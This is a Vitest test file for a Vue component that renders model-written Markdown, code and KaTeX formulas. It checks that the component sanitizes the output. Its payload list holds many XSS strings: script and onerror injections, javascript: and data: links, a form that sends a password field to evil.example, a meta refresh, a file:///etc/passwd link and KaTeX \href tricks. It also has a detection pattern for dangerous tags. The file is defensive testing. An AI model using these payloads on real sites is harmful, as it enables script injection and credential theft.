// @vitest-environment jsdom
// (DOMPurify does not vouch for what it does in happy-dom.)
import { flushPromises } from '@vue/test-utils'
import { describe, expect, it } from 'vitest'
import { mountPage } from '@/test/mountPage'
import { fill } from './block'
import { highlight } from './highlight'
import MarkdownText from './MarkdownText.vue'
import { typeset } from './math'
import { blocksOf } from './parse'

const words = { copy: 'Copy', code: 'Code', table: 'Table' }

function shown(text: string): HTMLElement {
  const root = document.createElement('div')
  for (const html of blocksOf(text, false)) {
    const place = document.createElement('div')
    fill(place, html, words)
    root.append(place)
  }
  return root
}

/** Everything that could run, load or leave the page: what no answer of a model may bring in. */
function dangers(root: Element): string[] {
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName
    if (/^(script|style|iframe|object|embed|form|input|img|svg|math|base|meta|link|template|video|audio)$/.test(name)) found.push(name)
    for (const { name: attribute, value } of element.attributes) {
      if (/^on|^style$|^srcdoc$|^formaction$|^src$|^id$|^name$/i.test(attribute)) found.push(`${name}[${attribute}]`)
      if (attribute === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`${name}[href=${value}]`)
    }
  }
  return found
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![" onerror="alert(1)](https://evil.example/"onerror="alert(1))',
  '[x](https://example.org "onclick=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://example.org/"onmouseover="alert(1)>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<div style="position:fixed;inset:0">x</div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '```html"onmouseover="alert(1)\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlStyle{position:fixed}{x}\\htmlId{app}{y}\\htmlData{a=b}{z}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\text{ style="position:fixed" }$',
  '$$\\color{red;background:url(https://evil.example)}x$$',
]

describe('what a model writes', () => {
  it.each(payloads)('%s runs nothing, loads nothing and styles nothing', async (payload) => {
    const root = shown(`before ${payload} after\n\n${payload}`)
    await flushPromises()
    const prose = root.cloneNode(true) as HTMLElement
    prose.querySelectorAll('.tex').forEach((formula) => formula.remove())
    expect(dangers(prose)).toEqual([])
    for (const formula of root.querySelectorAll<HTMLElement>('.tex')) {
      typeset(formula)
      expect(formula.querySelector('a, img, image, script, [id], [data-a], [data-style], [onerror]')).toBeNull()
      for (const part of formula.querySelectorAll<HTMLElement>('[style]')) expect(part.style.cssText).not.toMatch(/fixed|url/)
    }
  })

  it('becomes headings below those of the page, lists, tables and quotes', () => {
    const root = shown('# One\n\n###### Six\n\n- a\n- b\n\n> q\n\n| l | r |\n|:--|--:|\n| 1 | 2 |\n\nline\nbreak')
    expect(root.querySelector('h3')?.textContent).toBe('One')
    expect(root.querySelector('h6')?.textContent).toBe('Six')
    expect(shown('## Two\n\n### Three').querySelectorAll('h3, h4')).toHaveLength(2)
    expect(root.querySelectorAll('li')).toHaveLength(2)
    expect(root.querySelector('blockquote')?.textContent?.trim()).toBe('q')
    expect(root.querySelector('.table[tabindex="0"] td.align-right')?.textContent).toBe('2')
    expect(root.querySelector('br')).not.toBeNull()
  })

  it('opens links elsewhere, without telling from where', () => {
    const link = shown('see https://example.org/a and <me@example.org>').querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://example.org/a')
    expect(link?.target).toBe('_blank')
    expect(link?.rel).toContain('noreferrer')
  })

  it('never loads a picture: it becomes a link with its words', () => {
    const root = shown('![a cat](https://example.org/cat.png)')
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('a')?.textContent).toBe('a cat')
  })

  it('shows HTML as text', () => {
    expect(shown('<b>bold</b> & co').textContent).toContain('<b>bold</b> & co')
  })

  it('changes only the last block while it grows', () => {
    const before = blocksOf('First.\n\n```python\nprint(1)\n```\n\nLast', false)
    const after = blocksOf('First.\n\n```python\nprint(1)\n```\n\nLast words', false)
    expect(before).toHaveLength(3)
    expect(after.slice(0, 2)).toEqual(before.slice(0, 2))
    expect(after[2]).not.toBe(before[2])
  })

  it('keeps reference links that are defined at the end', () => {
    expect(shown('a [b][c]\n\n[c]: https://example.org').querySelector('a')?.getAttribute('href')).toBe('https://example.org')
  })
})

describe('code', () => {
  it('is coloured by spans with classes, and still the same text', () => {
    const code = document.createElement('code')
    code.textContent = 'def f(x):\n    return "<b>" + x  # é 中文'
    highlight(code, 'python')
    expect(code.textContent).toBe('def f(x):\n    return "<b>" + x  # é 中文')
    expect(code.querySelector('span.hljs-keyword')?.textContent).toBe('def')
    expect(code.querySelector('b')).toBeNull()
  })

  it('in an unknown language stays as it is', () => {
    const code = document.createElement('code')
    code.textContent = 'x <- y'
    highlight(code, 'no-such-language')
    expect(code.innerHTML).toBe('x &lt;- y')
  })
})

describe('formulas', () => {
  function formula(source: string, className = 'tex'): HTMLElement {
    const place = document.createElement('span')
    place.className = className
    place.textContent = source
    typeset(place)
    return place
  }

  it('are set for the eye and for screen readers, placed without style attributes in the HTML', () => {
    const place = formula('\\vec{a} + \\frac{1}{2}')
    expect(place.querySelector('.katex-html .mfrac')).not.toBeNull()
    expect(place.querySelector('math annotation')?.textContent).toBe('\\vec{a} + \\frac{1}{2}')
    expect(place.querySelector('[data-style]')).toBeNull()
    expect(place.querySelector<HTMLElement>('.katex-strut')?.style.height).toMatch(/em$/)
    expect(place.querySelector<HTMLElement>('.vlist > span')?.style.top).toMatch(/^-[\d.]+em$/)
    expect(place.querySelector('svg')?.style.width).toMatch(/em$/)
  })

  it('that are wrong or unfinished stay as their source', () => {
    const place = formula('\\frac{1}{')
    expect(place.textContent).toBe('\\frac{1}{')
    expect(place.classList.contains('is-source')).toBe(true)
  })

  it.each(['$a$', '\\(a\\)', 'x\n\n$$\na\n$$', '\\[a\\]'])('are recognised in %s', (text) => {
    expect(shown(text).querySelectorAll('.tex')).toHaveLength(1)
  })

  it('are not seen in prices', () => {
    expect(shown('It costs $5 and then $10 more.').querySelector('.tex')).toBeNull()
  })
})

describe('MarkdownText', () => {
  it('shows text, grows, and copies code', async () => {
    const page = await mountPage(MarkdownText, { text: 'Hello\n\n```js\nlet a = 1\n```', growing: false })
    await flushPromises()
    await expect.poll(() => page.find('.code-copy').exists()).toBe(true)
    expect(page.find('.code-head span').text()).toBe('js')
    await page.setProps({ text: 'Hello\n\n```js\nlet a = 1\n```\n\nBye' })
    expect(page.findAll('.block')).toHaveLength(3)
    page.unmount()
  })
})
